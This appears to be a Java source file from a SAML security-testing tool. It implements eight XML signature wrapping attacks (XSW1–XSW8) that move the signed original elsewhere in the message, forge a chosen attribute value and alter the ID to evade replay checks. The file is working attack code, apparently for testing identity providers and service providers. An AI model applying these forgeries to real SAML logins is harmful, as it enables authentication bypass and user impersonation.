package io.idpmaster.inspection;

import static io.idpmaster.inspection.SamlResponseBuilder.element;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

/**
 * Signature wrapping, numbered as SAML Raider numbers it. What was signed stays in the message, whole, with its
 * signature; what is to be read is another element.
 */
public enum SignatureWrapping {
    /** A signed response in the signature of the forged one. */
    XSW1(true, (document, name, value) -> {
        Element response = element(document, Xml.PROTOCOL, "Response");
        Element original = (Element) response.cloneNode(true);
        original.removeChild(signature(original));
        forge(response, name, value);
        signature(response).appendChild(original);
    }),
    /** A signed response before the signature of the forged one. */
    XSW2(true, (document, name, value) -> {
        Element response = element(document, Xml.PROTOCOL, "Response");
        Element original = (Element) response.cloneNode(true);
        original.removeChild(signature(original));
        forge(response, name, value);
        response.insertBefore(original, signature(response));
    }),
    /** A forged assertion before the signed one. */
    XSW3(false, (document, name, value) -> {
        Element assertion = element(document, Xml.ASSERTION, "Assertion");
        Element forged = (Element) assertion.cloneNode(true);
        forged.removeChild(signature(forged));
        assertion.getParentNode().insertBefore(forged, assertion);
        forge(forged, name, value);
    }),
    /** The signed assertion in the forged one. */
    XSW4(false, (document, name, value) -> {
        Element assertion = element(document, Xml.ASSERTION, "Assertion");
        Element forged = (Element) assertion.cloneNode(true);
        forged.removeChild(signature(forged));
        assertion.getParentNode().replaceChild(forged, assertion);
        forge(forged, name, value);
        forged.appendChild(assertion);
    }),
    /** A forged assertion with the signature, and what was signed behind it, without. */
    XSW5(false, (document, name, value) -> {
        Element forged = element(document, Xml.ASSERTION, "Assertion");
        Element original = (Element) forged.cloneNode(true);
        original.removeChild(signature(original));
        forge(forged, name, value);
        forged.getParentNode().appendChild(original);
    }),
    /** A forged assertion with the signature, and what was signed in that, without. */
    XSW6(false, (document, name, value) -> {
        Element forged = element(document, Xml.ASSERTION, "Assertion");
        Element original = (Element) forged.cloneNode(true);
        original.removeChild(signature(original));
        forge(forged, name, value);
        signature(forged).appendChild(original);
    }),
    /** A forged assertion in an element that may hold anything. */
    XSW7(false, (document, name, value) -> {
        Element assertion = element(document, Xml.ASSERTION, "Assertion");
        Element forged = (Element) assertion.cloneNode(true);
        forged.removeChild(signature(forged));
        forge(forged, name, value);
        Element extensions = document.createElementNS(Xml.PROTOCOL, "samlp:Extensions");
        extensions.appendChild(forged);
        assertion.getParentNode().insertBefore(extensions, assertion);
    }),
    /** What was signed in an element of the signature that may hold anything. */
    XSW8(false, (document, name, value) -> {
        Element forged = element(document, Xml.ASSERTION, "Assertion");
        Element original = (Element) forged.cloneNode(true);
        original.removeChild(signature(original));
        forge(forged, name, value);
        Element object = document.createElementNS("http://www.w3.org/2000/09/xmldsig#", "ds:Object");
        object.appendChild(original);
        signature(forged).appendChild(object);
    });

    private interface Attack {
        void on(Document document, String name, String value);
    }

    private final boolean ofResponse;
    private final Attack attack;

    SignatureWrapping(boolean ofResponse, Attack attack) {
        this.ofResponse = ofResponse;
        this.attack = attack;
    }

    /** Has the message say something else under this name than what the key signs. */
    public SamlMessage message(SamlResponseBuilder builder, SigningKey key, String name, String value) {
        return (ofResponse ? builder.withoutAssertionSignature() : builder.withoutResponseSignature())
                .signedBy(key, document -> attack.on(document, name, value));
    }

    private static Element signature(Element element) {
        return (Element) element.getElementsByTagNameNS("http://www.w3.org/2000/09/xmldsig#", "Signature")
                .item(0);
    }

    private static void forge(Element element, String name, String value) {
        // never seen before: what is refused is not refused as a replay
        element.setAttribute("ID", "_forged" + element.getAttribute("ID"));
        NodeList attributes = element.getElementsByTagNameNS(Xml.ASSERTION, "Attribute");
        for (int i = 0; i < attributes.getLength(); i++) {
            Element attribute = (Element) attributes.item(i);
            if (attribute.getAttribute("Name").equals(name)) {
                attribute
                        .getElementsByTagNameNS(Xml.ASSERTION, "AttributeValue")
                        .item(0)
                        .setTextContent(value);
                return;
            }
        }
        throw new IllegalArgumentException(name);
    }
}
